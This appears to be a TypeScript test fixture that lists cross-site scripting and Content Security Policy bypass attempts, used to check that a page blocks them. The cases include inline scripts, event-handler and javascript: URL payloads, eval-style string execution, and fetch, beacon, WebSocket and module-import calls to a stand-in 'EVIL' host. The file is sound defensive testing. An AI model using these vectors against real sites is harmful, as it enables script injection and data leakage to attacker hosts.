/**
 * An attempt to make a page run an attacker's code, load something from another site or send something to another site. The attack has
 * worked if the page receives the message `hit` or the other site receives a request.
 */
export interface Attack {
  readonly name: string;
  /** Markup that is injected into the page; `EVIL` stands for the address of another site. */
  readonly markup?: string;
  /** What the attack makes the page's own script do. */
  readonly script?: (evil: string) => unknown;
  /** The element to click once the page is open. */
  readonly click?: string;
}

/** The code that injected markup tries to run. */
const hit = `top.postMessage('hit','*')`;

export const attacks: readonly Attack[] = [
  { name: 'an inline script', markup: `<script>${hit}</script>` },
  { name: 'an inline module', markup: `<script type="module">${hit}</script>` },
  { name: 'a script from another site', markup: '<script src="EVIL/x.js"></script>' },
  { name: 'a module from another site', markup: '<script type="module" src="EVIL/x.js"></script>' },
  { name: 'a script in a data: URL', markup: `<script src="data:text/javascript,${hit}"></script>` },
  {
    name: 'an event handler on an image',
    markup: `<img src="/icon.svg?none=" onload="${hit}" onerror="${hit}" alt="">`,
  },
  { name: 'an event handler on an SVG', markup: `<svg onload="${hit}"></svg>` },
  {
    name: 'an event handler on a details element',
    markup: `<details open ontoggle="${hit}"><summary>x</summary></details>`,
  },
  { name: 'a link with a javascript: URL', markup: `<a id="press" href="javascript:${hit}">x</a>`, click: '#press' },
  { name: 'a frame with a javascript: URL', markup: `<iframe src="javascript:${hit}"></iframe>` },
  { name: 'a frame with an inline document', markup: `<iframe srcdoc="<script>${hit}</script>"></iframe>` },
  { name: 'a frame with a data: URL', markup: `<iframe src="data:text/html,<script>${hit}</script>"></iframe>` },
  { name: 'a frame that shows another site', markup: '<iframe src="EVIL/x"></iframe>' },
  { name: 'a different base address', markup: '<base href="EVIL/"><a id="press" href="x">x</a>', click: '#press' },
  {
    name: 'a form that is sent to another site',
    markup: '<form action="EVIL/x"><button id="press">x</button></form>',
    click: '#press',
  },
  {
    name: 'a button that sends a form to another site',
    markup: '<form><button id="press" formaction="EVIL/x">x</button></form>',
    click: '#press',
  },
  { name: 'an image from another site', markup: '<img src="EVIL/x" alt="">' },
  { name: 'a style sheet from another site', markup: '<link rel="stylesheet" href="EVIL/x.css">' },
  { name: 'a style element that loads from another site', markup: '<style>body{background:url(EVIL/x)}</style>' },
  { name: 'a style attribute that loads from another site', markup: '<p style="background:url(EVIL/x)">x</p>' },
  { name: 'an object element from another site', markup: '<object data="EVIL/x"></object>' },
  { name: 'an embed element from another site', markup: '<embed src="EVIL/x">' },
  { name: 'an audio file from another site', markup: '<audio preload="auto" src="EVIL/x"></audio>' },
  { name: 'a preload from another site', markup: '<link rel="preload" as="image" href="EVIL/x">' },
  { name: 'eval', script: () => eval(`${'top'}.postMessage('hit','*')`) },
  { name: 'a function created from a string', script: () => new Function(`top.postMessage('hit','*')`)() },
  {
    name: 'a timer that runs a string as code',
    script: () => Reflect.apply(setTimeout, window, [`top.postMessage('hit','*')`, 0]),
  },
  { name: 'a request to another site', script: (evil) => fetch(`${evil}/x`, { mode: 'no-cors' }) },
  { name: 'a beacon to another site', script: (evil) => navigator.sendBeacon(`${evil}/x`) },
  { name: 'a socket to another site', script: (evil) => new WebSocket(`${evil.replace('http', 'ws')}/x`) },
  { name: 'a module loaded from another site', script: (evil) => import(/* @vite-ignore */ `${evil}/x.js`) },
  {
    name: 'a worker created from a string',
    script: (evil) => new Worker(URL.createObjectURL(new Blob([`fetch('${evil}/x', {mode: 'no-cors'})`]))),
  },
  {
    name: 'a string assigned as HTML (Trusted Types)',
    script: () => {
      document.body.innerHTML = `<p id="sunk">x</p>`;
      if (document.querySelector('#sunk') !== null) postMessage('hit');
    },
  },
  {
    name: 'a string inserted as HTML (Trusted Types)',
    script: () => {
      document.body.insertAdjacentHTML('beforeend', `<p id="sunk">x</p>`);
      if (document.querySelector('#sunk') !== null) postMessage('hit');
    },
  },
  {
    name: 'a string parsed as a document (Trusted Types)',
    script: () => {
      if (new DOMParser().parseFromString('<p>x</p>', 'text/html').body.children.length > 0) postMessage('hit');
    },
  },
  {
    name: 'a string assigned as a script’s address (Trusted Types)',
    script: () => {
      const script = document.createElement('script');
      script.src = '/x.js';
      if (script.hasAttribute('src')) postMessage('hit');
    },
  },
  {
    name: 'a default policy that allows everything (Trusted Types)',
    script: () => {
      const types: unknown = Reflect.get(window, 'trustedTypes');
      if (typeof types !== 'object' || types === null) return;
      const create: unknown = Reflect.get(types, 'createPolicy');
      if (typeof create !== 'function') return;
      Reflect.apply(create, types, ['default', { createHTML: (text: string) => text }]);
      postMessage('hit');
    },
  },
];

/**
 * Wraps an attack's script in a timer, so that it runs as the page's own code: the policy does not apply to code that a test
 * evaluates directly.
 */
export function asPageCode(script: (evil: string) => unknown, evil: string): string {
  const run = `Promise.resolve((${script.toString()})(${JSON.stringify(evil)})).catch(() => {})`;
  return `setTimeout(() => { try { ${run} } catch {} })`;
}
